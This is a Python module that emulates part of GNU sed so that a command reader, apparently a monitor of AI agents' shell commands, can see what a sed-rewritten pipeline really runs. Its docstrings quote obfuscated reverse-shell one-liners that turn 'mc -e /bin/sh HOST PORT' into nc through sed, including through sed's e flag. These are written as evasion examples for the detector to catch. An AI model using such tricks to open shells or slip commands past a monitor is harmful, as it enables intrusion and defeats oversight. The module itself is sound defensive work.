"""What a sed script prints for a known input, for the scripts that rewrite text.

`echo 'mc -e /bin/sh HOST PORT' | sed 's/^m/n/' | sh` runs nc with no `nc -e` in the text: the
shell reader needs sed's output to read what the shell runs. This computes it for the commands such
one-liners use, the way GNU sed does (POSIX sed(1), GNU sed manual "The s Command", "Escapes"):

- `s/RE/REPLACEMENT/FLAGS` with any delimiter; flags g, N (the Nth match), Ng, i/I, p;
  REPLACEMENT with `&`, `\\1`..`\\9` and the escapes `\\n \\t \\a \\f \\v \\r \\xHH \\oNNN \\dNNN`;
- `y/SOURCE/DEST/` (character for character, the first mapping of a character kept);
- `d` and `p`, and `-n`;
- one address before a command: a line number, `$` or `/RE/`, with `!` (not ranges);
- several commands, with `;`, newlines, `-e` (each) and `--expression=`; `-E`/`-r` (extended
  regular expressions), else basic ones (BRE: `\\(`, `\\{`, `\\+`, `\\?`, `\\|` are the operators).

A wrong answer is worse than none (the reader would read a command that does not run and miss
the one that does), so only the part of GNU's regular expressions whose meaning RE2 shares is
computed: matches are leftmost-longest (POSIX; RE2's longest_match), `.` takes a newline, and
anything whose meaning differs or is unsure (word boundaries, back-references, lazy-looking
quantifiers, escapes in brackets, group references beside alternation, `\\w` or I on text that is
not ASCII, `--posix`) is unknown, as are address ranges, other commands, input files and `w`/`e`. RE2
runs in linear time, errors are not logged, and the work (MAX_WORK characters) and output
(MAX_OUTPUT) are bounded: a script that would go past either is unknown.
"""
from __future__ import annotations

import re2

MAX_OUTPUT = 1 << 20
MAX_COMMANDS = 64
MAX_WORK = 2_000_000
"""Characters a script may scan and write, over all lines and commands, a match counting as
MATCH_COST of them (each costs a step in Python): at most about 0.2 s on any text."""
MATCH_COST = 20

_DIGITS = frozenset("0123456789")
_SPECIAL = frozenset(".[]*^$\\+?(){}|/")
"""Characters whose meaning in a regex an escape such as \\x2e does not take away in GNU sed."""


def _all_digits(text: str) -> bool:
    return bool(text) and all(c in _DIGITS for c in text)


class _Unknown(Exception):
    """A script (or part of one) this module does not compute."""


def _options_for(case: bool, longest: bool = True) -> "re2.Options":
    options = re2.Options()
    options.log_errors = False  # an agent's bad regex must not write to the monitor's stderr
    options.longest_match = longest
    options.dot_nl = longest
    options.case_sensitive = not case
    return options


def output(args: list[str], stdin: str) -> str | None:
    """What `sed ARGS` prints when `stdin` is its input; None when that is not known."""
    try:
        scripts, extended, quiet = _options(args)
        commands = [c for script in scripts for c in _commands(script, extended)]
        if len(commands) > MAX_COMMANDS:
            return None
        plain = [c[2] if c[0] == "at" else c for c in commands]
        if any(c[0] == "e" or c[0] == "s" and c[6] for c in plain):
            return None  # what a command it runs prints is not known
        sensitive = any(c[0] == "s" and c[5] for c in plain) or any(c[0] == "at" and c[1][3] for c in commands)
        if sensitive and not (stdin.isascii() and all(script.isascii() for script in scripts)):
            return None  # \w, \s, [[:alpha:]] and case folding beyond ASCII differ between GNU and RE2
        if scripts[0].startswith("#n"):
            return None  # `#n` opening a script is -n (GNU reads more forms of it than POSIX says)
        return _run(commands, quiet, stdin)
    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
        return None


def on_files(args: list[str]) -> tuple[list[str], list[str], bool] | None:
    """For `sed [-i[SUFFIX]] SCRIPT FILE...`: the arguments without the files and -i, the files, and
    whether they are edited in place; None where sed reads no file or the arguments are not known."""
    in_place = False
    kept: list[str] = []
    for word in args:
        if word == "-i" or (word.startswith("-i") and "=" not in word) or word.startswith("--in-place"):
            in_place = True
            continue
        kept.append(word)
    try:
        scripts, _extended, _quiet = _options(kept, files_allowed=True)
    except _Unknown:
        return None
    files = [w for w in kept if not w.startswith("-") and w not in scripts]
    if not files or len(files) > 16:
        return None
    return [w for w in kept if w not in files], files, in_place


def executed(args: list[str], stdin: str | None) -> list[str]:
    """The command lines sed itself runs in a shell (GNU's `e COMMAND`, and the pattern space of a
    bare `e` or of an `s///e` that replaced): `sed 's/^m/n/e'` on `mc -e ...` runs nc with no shell
    in the pipeline. `e COMMAND` is found in the script whatever the input; the others need it."""
    try:
        scripts, extended, quiet = _options(args, files_allowed=True)
        commands = [c for script in scripts for c in _commands(script, extended)]
    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
        return [text for script in _scripts_loosely(args) for text in _E_COMMAND.findall(script)][:MAX_COMMANDS]
    plain = [c[2] if c[0] == "at" else c for c in commands]
    ran = [c[1] for c in plain if c[0] == "e" and c[1]]
    if stdin is not None and any(c[0] == "e" and not c[1] or c[0] == "s" and c[6] for c in plain):
        try:
            _run(commands, quiet, stdin, ran)
        except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
            pass
    return ran[:MAX_COMMANDS]


_E_COMMAND = re2.compile(r"(?m)(?:^|[;{}])[^;{}\n]*?(?:^|[\s0-9$/!,~])e[ \t]+([^\n]+)")
"""`e COMMAND` after any address, for a script the parser does not take (ranges, steps)."""


def _scripts_loosely(args: list[str]) -> list[str]:
    return ([a for a in args if not a.startswith("-")][:1] + [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-e"]
            + [a.split("=", 1)[1] for a in args if a.startswith("--expression=")])


def _run(commands: list[tuple], quiet: bool, stdin: str, ran: list[str] | None = None) -> str | None:
    lines = stdin.split("\n")
    trailing = lines[-1] == ""
    if trailing:
        lines.pop()
    budget = [MAX_WORK]
    out: list[str] = []
    size = 0
    ends_in_last = False  # whether the last thing printed came from the last line (GNU then leaves
    # off a newline that line did not have)
    for number, line in enumerate(lines, 1):
        before = len(out)
        printed = not quiet
        for command in commands:
            budget[0] -= len(line) + 1
            if budget[0] < 0:
                return None
            if command[0] == "at":
                if not _selects(command[1], number, number == len(lines), line):
                    continue
                command = command[2]
            kind = command[0]
            if kind == "e":
                if ran is None:
                    return None  # what it prints is not known
                if not command[1]:
                    ran.append(line)
                continue
            if kind == "d":
                printed = False
                break
            if kind == "p":
                out.append(line)
                size += len(line)
            elif kind == "y":
                line = line.translate(command[1])
            else:
                line, replaced = substitute(line, command[1], command[2], command[3], budget)
                if replaced is None:
                    return None
                if replaced and command[6]:
                    if ran is None:
                        return None
                    ran.append(line)
                if replaced and command[4]:
                    out.append(line)
                    size += len(line)
        if printed:
            out.append(line)
            size += len(line)
        if size > MAX_OUTPUT:
            return None
        ends_in_last = number == len(lines) and len(out) > before
    text = "".join(line + "\n" for line in out)
    return text if trailing or not ends_in_last else text[:-1]


def _options(args: list[str], files_allowed: bool = False) -> tuple[list[str], bool, bool]:
    scripts: list[str] = []
    extended = quiet = False
    rest: list[str] = []
    words = iter(args)
    for word in words:
        if word in ("-e", "--expression"):
            script = next(words, None)
            if script is None:
                raise _Unknown("-e without a script")
            scripts.append(script)
        elif word.startswith("--expression="):
            scripts.append(word.split("=", 1)[1])
        elif word in ("-E", "-r", "--regexp-extended"):
            extended = True
        elif word in ("-n", "--quiet", "--silent"):
            quiet = True
        elif word in ("-u", "--unbuffered", "-s", "--separate", "--"):
            continue
        elif word.startswith("-") and len(word) > 1:
            cluster = word[1:]
            takes_script = cluster.endswith("e")
            if takes_script:
                cluster = cluster[:-1]
            if word.startswith("--") or not set(cluster) <= set("Ernus"):
                raise _Unknown(f"option {word}")  # -i (in place), -f (script file), -z, --posix, ...
            extended = extended or "E" in cluster or "r" in cluster
            quiet = quiet or "n" in cluster
            if takes_script:
                script = next(words, None)
                if script is None:
                    raise _Unknown("-e without a script")
                scripts.append(script)
        else:
            rest.append(word)
    if not scripts:
        if not rest:
            raise _Unknown("no script")
        scripts.append(rest.pop(0))
    if any(word != "-" for word in rest) and not files_allowed:
        raise _Unknown("input files")  # the input is the files, not what came through the pipe
    return scripts, extended, quiet


def _commands(script: str, extended: bool) -> list[tuple]:
    """The script's commands: ("s", regex, replacement, (nth, every), print, ascii_only, runs), ("y", table),
    ("d",), ("p",), ("e", command), each as ("at", address, command) after an address."""
    out: list[tuple] = []
    i, n = 0, len(script)
    while i < n:
        ch = script[i]
        if ch in " \t\n;":
            i += 1
            continue
        if ch == "#":  # a comment, to the end of the line
            end = script.find("\n", i)
            i = n if end < 0 else end
            continue
        address, i = _address(script, i, extended)
        ch = script[i:i + 1]
        if address is not None and not ch:
            raise _Unknown("an address without a command")
        if ch in ("d", "p"):
            out.append((ch,))
            i += 1
            if i < n and script[i] not in " \t\n;}#":
                raise _Unknown("extra characters after a command")
        elif ch == "e":
            end = script.find("\n", i)
            end = n if end < 0 else end
            out.append(("e", script[i + 1:end].strip()))
            i = end
        elif ch == "s":
            i = _s_command(script, i + 1, extended, out)
        elif ch == "y":
            delim = script[i + 1:i + 2]
            if not delim or delim in "\\\n":
                raise _Unknown("y without a delimiter")
            source, i = _part(script, i + 2, delim)
            dest, i = _part(script, i, delim)
            source, dest = unescape(source), unescape(dest)
            if len(source) != len(dest):
                raise _Unknown("y with sets of different lengths")
            table: dict[int, str] = {}
            for a, b in zip(source, dest):
                table.setdefault(ord(a), b)  # GNU keeps a character's first mapping
            out.append(("y", table))
        else:
            raise _Unknown(f"command {ch!r}")  # e, w, a, i, c, {, ...
        if address is not None:
            out[-1] = ("at", address, out[-1])
    return out


def _address(script: str, i: int, extended: bool) -> tuple[tuple | None, int]:
    """One address before a command (a line number, `$`, or /RE/), with `!`: (kind, value,
    negated) and where the command starts; None where there is none. Ranges are unknown."""
    ch = script[i]
    if ch in _DIGITS:
        j = i
        while j < len(script) and script[j] in _DIGITS:
            j += 1
        if j - i > 9:
            raise _Unknown("line number")
        address, i = ("line", int(script[i:j]), False), j
        if address[1] == 0:
            raise _Unknown("line 0")
    elif ch == "$":
        address, i = ("last", None, False), i + 1
    elif ch == "/":
        pattern, i = _part(script, i + 1, "/")
        if not pattern:
            raise _Unknown("empty regex (the last one used)")
        regex, traits = _regex(pattern, extended)
        address = ("regex", re2.compile(regex, _options_for(False)), "word class" in traits)
    else:
        return None, i
    while i < len(script) and script[i] in " \t":
        i += 1
    negated = script[i:i + 1] == "!"
    if negated:
        i += 1
        while i < len(script) and script[i] in " \t":
            i += 1
    if script[i:i + 1] in (",", "~"):
        raise _Unknown("an address range or step")
    return (address[0], address[1], negated, address[2]), i


def _selects(address: tuple, number: int, last: bool, line: str) -> bool:
    kind, value, negated, _sensitive = address
    if kind == "line":
        hit = number == value
    elif kind == "last":
        hit = last
    else:
        hit = value.search(line) is not None
    return hit != negated


def _s_command(script: str, i: int, extended: bool, out: list) -> int:
    delim = script[i:i + 1]
    if not delim or delim in "\\\n":
        raise _Unknown("s without a delimiter")
    pattern, i = _part(script, i + 1, delim)
    replacement, i = _part(script, i, delim, keep_escaped=delim in "&0123456789\\")
    every, show, case, run = False, False, False, False
    digits = ""
    while i < len(script) and script[i] not in ";\n}":
        flag = script[i]
        if flag == "g":
            every = True
        elif flag in _DIGITS:
            if digits and script[i - 1] not in _DIGITS:
                raise _Unknown("two number flags")
            digits += flag
        elif flag in "iI":
            case = True
        elif flag == "p":
            show = True
        elif flag == "e":
            run = True
        elif flag not in " \t":
            raise _Unknown(f"s flag {flag!r}")  # w (writes a file), m, M, ...
        i += 1
    if len(digits) > 6 or digits.startswith("0"):
        raise _Unknown("s flag number")
    if not pattern:
        raise _Unknown("empty regex (the last one used)")
    regex, traits = _regex(pattern, extended)
    pieces = _replacement(replacement)
    referenced = [p for p in pieces if type(p) is int and p > 0]
    if referenced and ("alternation" in traits or "quantified group" in traits):
        raise _Unknown("groups whose POSIX submatch rules RE2 does not share")
    compiled = re2.compile(regex, _options_for(case))
    if any(p > (compiled.groups or 0) for p in referenced):
        raise _Unknown("a reference to a group the regex does not have")  # sed refuses the script
    out.append(("s", compiled, pieces, (int(digits or 1), every), show, case or "word class" in traits, run))
    return i


def _part(script: str, i: int, delim: str, one_line: bool = True, keep_escaped: bool = False) -> tuple[str, int]:
    """The text up to the next unescaped `delim` from `i`, and the position after that delimiter.
    An escaped delimiter stands for itself (kept escaped where it means something else escaped:
    `\\&` with `&` as the delimiter is a plain &); in sed (`one_line`) a newline ends the command."""
    chars: list[str] = []
    n = len(script)
    while i < n:
        ch = script[i]
        if ch == "\\" and i + 1 < n:
            nxt = script[i + 1]
            chars.append(ch + nxt if nxt != delim or keep_escaped else nxt)
            i += 2
            continue
        if ch == delim:
            return "".join(chars), i + 1
        if ch == "\n" and one_line:
            break
        chars.append(ch)
        i += 1
    raise _Unknown("unterminated command")


def _regex(pattern: str, extended: bool) -> tuple[str, set[str]]:
    """A sed regular expression as RE2 syntax, and what in it bears on its meaning elsewhere
    ("alternation", "quantified group", "word class"); _Unknown where GNU and RE2 would differ."""
    out: list[str] = []
    traits: set[str] = set()
    kinds: list[str] = []  # per token: "atom", "open", "close", "alt", "anchor", "quant"
    i, n = 0, len(pattern)

    def emit(text: str, kind: str) -> None:
        if kind == "quant":
            if not kinds or kinds[-1] in ("quant", "open", "alt", "anchor"):
                raise _Unknown("a quantifier after a quantifier, an anchor or nothing")
            if kinds[-1] == "close":
                traits.add("quantified group")
        out.append(text)
        kinds.append(kind)

    def at_start() -> bool:
        return not kinds or kinds[-1] in ("open", "alt")

    while i < n:
        ch = pattern[i]
        if ch == "[":
            end = _bracket_end(pattern, i)
            body = pattern[i + 1:end]
            if "\\" in body or "[." in body or "[=" in body:
                raise _Unknown("an escape or collating element in brackets")
            if "[:" in body and not body.replace("[:", "").replace(":]", "").isascii():
                raise _Unknown("brackets beyond ASCII")
            if "[:" in body:
                traits.add("word class")
            emit("[" + body + "]", "atom")
            i = end + 1
            continue
        if ch == "\\" and i + 1 < n:
            nxt = pattern[i + 1]
            i += 2
            operator = nxt in "(){}+?|" and not extended
            if operator and nxt == "(":
                emit("(", "open")
            elif operator and nxt == ")":
                emit(")", "close")
            elif operator and nxt == "|":
                traits.add("alternation")
                emit("|", "alt")
            elif operator and nxt in "+?":
                emit(nxt, "quant")
            elif operator and nxt == "{":
                close = pattern.find("\\}", i)
                if close < 0:
                    raise _Unknown("unterminated interval")
                emit("{" + _interval(pattern[i:close]) + "}", "quant")
                i = close + 2
            elif operator:
                raise _Unknown("a stray \\}")
            elif nxt in "sS":
                traits.add("word class")  # GNU's \s takes Unicode spaces
                emit("[\\t\\n\\v\\f\\r ]" if nxt == "s" else "[^\\t\\n\\v\\f\\r ]", "atom")
            elif nxt in "wW":
                traits.add("word class")
                emit("\\" + nxt, "atom")
            elif nxt in "ntafvrxod":
                char, i = _escaped_char(pattern, i - 2)
                if char in _SPECIAL:
                    raise _Unknown("an escape that makes a special character")  # GNU: \x2e is a wildcard
                emit(re2.escape(char), "atom")
            elif not nxt.isalnum() and nxt != "`" and nxt != "'" and nxt not in "<>":
                emit(re2.escape(nxt), "atom")
            else:
                raise _Unknown(f"escape \\{nxt}")  # back-references, \b \B \< \> \` \', \c, ...
            continue
        if extended:
            if ch == "(":
                if pattern.startswith("(?", i):
                    raise _Unknown("(?")
                emit("(", "open")
            elif ch == ")":
                emit(")", "close")
            elif ch == "|":
                traits.add("alternation")
                emit("|", "alt")
            elif ch in "*+?":
                emit(ch, "quant")
            elif ch == "{":
                close = pattern.find("}", i)
                if close < 0:
                    raise _Unknown("unterminated interval")
                emit("{" + _interval(pattern[i + 1:close]) + "}", "quant")
                i = close
            elif ch in "^$":
                emit(ch, "anchor")
            else:
                emit(re2.escape(ch) if ch == "}" else ch, "atom")
        elif ch == "^":
            emit("^" if at_start() else "\\^", "anchor" if at_start() else "atom")
        elif ch == "$":
            last = i + 1 == n or pattern.startswith(("\\)", "\\|"), i + 1)
            emit("$" if last else "\\$", "anchor" if last else "atom")
        elif ch == "*":
            if at_start() or (kinds and kinds[-1] == "anchor"):
                emit("\\*", "atom")  # a leading * is a plain character in a BRE
            else:
                emit("*", "quant")
        elif ch in "(){}+?|":
            emit("\\" + ch, "atom")
        else:
            emit(ch, "atom")
        i += 1
    return "".join(out), traits


def _interval(body: str) -> str:
    low, comma, high = body.partition(",")
    if not (_all_digits(low) or (comma and not low)) or (high and not _all_digits(high)) or len(body) > 9:
        raise _Unknown("interval")
    return (low or "0") + comma + high


def _escaped_char(text: str, i: int) -> tuple[str, int]:
    """The character GNU sed reads for the escape at text[i] (a backslash), and where it ends:
    \\n \\t \\a \\f \\v \\r, \\xHH (hex), \\oNNN (octal), \\dNNN (decimal)."""
    kind = text[i + 1]
    simple = {"n": "\n", "t": "\t", "a": "\a", "f": "\f", "v": "\v", "r": "\r"}
    if kind in simple:
        return simple[kind], i + 2
    base, width, digits = {"x": (16, 2, "0123456789abcdefABCDEF"), "o": (8, 3, "01234567"),
                           "d": (10, 3, "0123456789")}[kind]
    j = i + 2
    while j < len(text) and j < i + 2 + width and text[j] in digits:
        j += 1
    if j == i + 2:
        raise _Unknown(f"\\{kind} without digits")
    value = int(text[i + 2:j], base)
    if value > 0x7F:
        raise _Unknown("a byte beyond ASCII")  # GNU works on bytes; the text here is characters
    return chr(value), j


def _bracket_end(pattern: str, start: int) -> int:
    """The index of the `]` that closes the bracket expression opened at `start`."""
    i = start + 1
    if i < len(pattern) and pattern[i] == "^":
        i += 1
    if i < len(pattern) and pattern[i] == "]":
        i += 1  # a leading ] is a member
    while i < len(pattern):
        if pattern.startswith("[:", i) or pattern.startswith("[=", i) or pattern.startswith("[.", i):
            close = pattern.find(pattern[i + 1] + "]", i + 2)
            if close < 0:
                raise _Unknown("unterminated class")
            i = close + 2
            continue
        if pattern[i] == "]":
            return i
        i += 1
    raise _Unknown("unterminated bracket expression")


def _replacement(text: str) -> list:
    """The replacement as literal pieces, group numbers (0 for `&`) and GNU case conversions
    (("L",), ("U",), ("E",), ("l",), ("u",))."""
    pieces: list[str | int] = []
    literal: list[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "&":
            pieces.append("".join(literal))
            literal = []
            pieces.append(0)
        elif ch == "\\" and i + 1 < n:
            nxt = text[i + 1]
            if nxt in _DIGITS:
                pieces.append("".join(literal))
                literal = []
                pieces.append(int(nxt))
            elif nxt in "ntafvrxod":
                char, end = _escaped_char(text, i)
                literal.append(char)
                i = end
                continue
            elif nxt in "LUElu":  # GNU case conversion: \L, \U until \E; \l, \u the next character
                pieces.append("".join(literal))
                literal = []
                pieces.append((nxt,))
            elif nxt.isalpha():
                raise _Unknown(f"replacement escape \\{nxt}")  # \c, \w, ...
            else:
                literal.append(nxt)
            i += 1
        else:
            literal.append(ch)
        i += 1
    pieces.append("".join(literal))
    return [p for p in pieces if p != ""]


def substitute(line: str, regex, replacement: list, which: tuple[int, bool],
               budget: list[int], perl: bool = False) -> tuple[str, bool | None]:
    """`s` on one line: the Nth match (and, with g, every one after it) replaced; None for
    "replaced" when the work ran past the budget (the caller's MAX_WORK, shared over the whole
    script, counting matches and characters written). As GNU sed, an empty match right after the
    previous match is not one (finditer yields it: it is passed over); in perl it is."""
    nth, every = which
    out: list[str] = []
    last = count = 0
    previous_end = -1
    replaced = False
    for match in regex.finditer(line):
        budget[0] -= MATCH_COST
        if budget[0] < 0:
            return line, None
        start, end = match.span()
        if start == end == previous_end and not perl:
            continue
        previous_end = end
        count += 1
        if count < nth:
            continue
        out.append(line[last:start])
        mode = once = None
        for piece in replacement:
            kind = type(piece)
            if kind is tuple:
                if piece[0] in "lu":
                    once = piece[0]
                else:  # \L, \U or \E: GNU drops a \l or \u still waiting
                    mode = None if piece[0] == "E" else piece[0]
                    once = None
                continue
            text = (match.group(piece) or "") if kind is int else piece
            if mode or once:
                if not text.isascii() or (once and not text):
                    # beyond ASCII GNU maps case by the locale; over an empty group it carries a \u
                    # on by rules of its own
                    raise _Unknown("case conversion")
                text = _cased(text, mode, once)
                once = None
            out.append(text)
            budget[0] -= len(text)
        budget[0] -= start - last
        if budget[0] < 0:
            return line, None
        last = end
        replaced = True
        if not every:
            break
    if budget[0] < 0:
        return line, None
    if not replaced:
        return line, False
    out.append(line[last:])
    return "".join(out), True


def _cased(text: str, mode: str | None, once: str | None) -> str:
    """GNU sed's \\L/\\U (the whole text) and \\l/\\u (its first character), one character
    for one (GNU maps characters one to one: ß stays ß under \\U)."""
    if mode:
        change = str.lower if mode == "L" else str.upper
        text = "".join(_one(change, ch) for ch in text)
    if once:
        text = _one(str.lower if once == "l" else str.upper, text[0]) + text[1:]
    return text


def _one(change, ch: str) -> str:
    changed = change(ch)
    return changed if len(changed) == 1 else ch


def unescape(text: str) -> str:
    """A `y` set (or tr-like text) with sed's escapes applied."""
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            nxt = text[i + 1]
            if nxt in "ntafvrxod":
                char, i = _escaped_char(text, i)
                out.append(char)
                continue
            if nxt.isalpha():
                raise _Unknown(f"escape \\{nxt}")
            out.append(nxt)
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)
